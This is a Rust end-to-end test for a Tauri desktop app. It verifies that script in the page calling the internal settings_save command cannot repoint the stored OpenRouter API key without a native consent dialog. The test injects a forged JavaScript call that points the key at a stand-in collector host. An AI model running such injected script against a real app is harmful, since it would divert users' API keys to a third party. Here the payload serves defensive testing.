//! A hostile page cannot move a key: script that calls `settings_save` itself (what an XSS
//! in an answer would do) to point OpenRouter and its stored key at another server gets a
//! native dialog raised from Rust, which the page can neither see nor answer; declined,
//! nothing changes.

use std::process::Command;
use std::time::{Duration, Instant};

use fantoccini::Client;
use serde_json::Value;
use switchboard_tests::FakeUpstream;

use crate::driver::{Driver, TestResult, app_binary, finish};
use crate::page::{DEADLINE, click, wait_for_text};

const KEY: &str = "sk-or-v1-e2e-consent-00000000000000000000";
const TITLE: &str = "Send your API key to a new address?";
const COLLECTOR: &str = "https://collector.example/api/v1";

#[tokio::test]
async fn page_script_cannot_repoint_a_key_without_the_users_native_consent() {
    let Some((app, _turn)) = app_binary().await else {
        return;
    };
    let fake = FakeUpstream::start(KEY);
    let data = tempfile::tempdir().unwrap();
    let driver = Driver::for_fake(data.path(), &fake, KEY).unwrap();
    let c = driver.launch(&app).await.unwrap();
    let result = forge_and_decline(&c).await;
    finish(c, result, "consent-failed.png").await;
}

async fn forge_and_decline(c: &Client) -> TestResult {
    // The app is up (its own page answered) before the forged call.
    click(c, "#nav-settings").await?;
    wait_for_text(c, "[data-provider=\"openrouter\"] h3", |t| {
        t == "OpenRouter"
    })
    .await?;
    // What hostile script in the page would run: call the command directly, not through the UI.
    c.execute(
        "const invoke = window.__TAURI_INTERNALS__.invoke;
         const url = arguments[0];
         window.__forged = null;
         invoke('settings_get').then((prefs) => {
           prefs.baseUrls = { ...prefs.baseUrls, openrouter: url };
           return invoke('settings_save', { preferences: prefs });
         }).then((r) => { window.__forged = { ok: r }; },
                 (e) => { window.__forged = { err: e }; });",
        vec![Value::from(COLLECTOR)],
    )
    .await?;
    let dialog = wait_for_window(TITLE).await?;
    // While the dialog is up the change waits, and has not happened.
    assert_eq!(
        forged(c).await?,
        Value::Null,
        "the command waits for the user's answer"
    );
    assert_eq!(
        saved_openrouter_url(c).await?,
        Value::Null,
        "nothing changed yet"
    );
    std::fs::write(
        crate::driver::artifact("consent-dialog.png"),
        root_screenshot()?,
    )?;
    // The user declines (Escape closes a GTK dialog as Cancel).
    let status = Command::new("xdotool")
        .args(["windowfocus", "--sync", &dialog, "key", "Escape"])
        .status()?;
    assert!(status.success(), "xdotool reached the dialog");
    let deadline = Instant::now() + DEADLINE;
    let answer = loop {
        let now = forged(c).await?;
        if !now.is_null() {
            break now;
        }
        if Instant::now() > deadline {
            return Err("the forged call never returned after the dialog closed".into());
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    let message = answer["err"]["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("Nothing was changed"),
        "declined: the call fails and says so: {answer}"
    );
    assert_eq!(
        saved_openrouter_url(c).await?,
        Value::Null,
        "the key still goes where it went"
    );
    Ok(())
}

async fn forged(c: &Client) -> TestResult<Value> {
    Ok(c.execute("return window.__forged;", Vec::new()).await?)
}

/// The OpenRouter base URL override as saved (null when none).
async fn saved_openrouter_url(c: &Client) -> TestResult<Value> {
    Ok(c.execute_async(
        "const done = arguments[arguments.length - 1];
             window.__TAURI_INTERNALS__.invoke('settings_get')
               .then((p) => done(p.baseUrls?.openrouter ?? null), (e) => done({ err: e }));",
        Vec::new(),
    )
    .await?)
}

/// Waits for a top-level X window titled `title` (the native dialog); returns its id.
pub(crate) async fn wait_for_window(title: &str) -> TestResult<String> {
    let deadline = Instant::now() + DEADLINE;
    loop {
        let out = Command::new("xdotool")
            .args(["search", "--name", title])
            .output()?;
        let ids = String::from_utf8_lossy(&out.stdout);
        if let Some(id) = ids.lines().map(str::trim).find(|l| !l.is_empty()) {
            return Ok(id.to_owned());
        }
        if Instant::now() > deadline {
            return Err(format!("no native dialog titled {title:?} appeared").into());
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// The whole X screen (the dialog is its own window, outside what WebDriver can capture).
pub(crate) fn root_screenshot() -> TestResult<Vec<u8>> {
    let out = Command::new("import")
        .args(["-window", "root", "png:-"])
        .output()?;
    Ok(out.stdout)
}
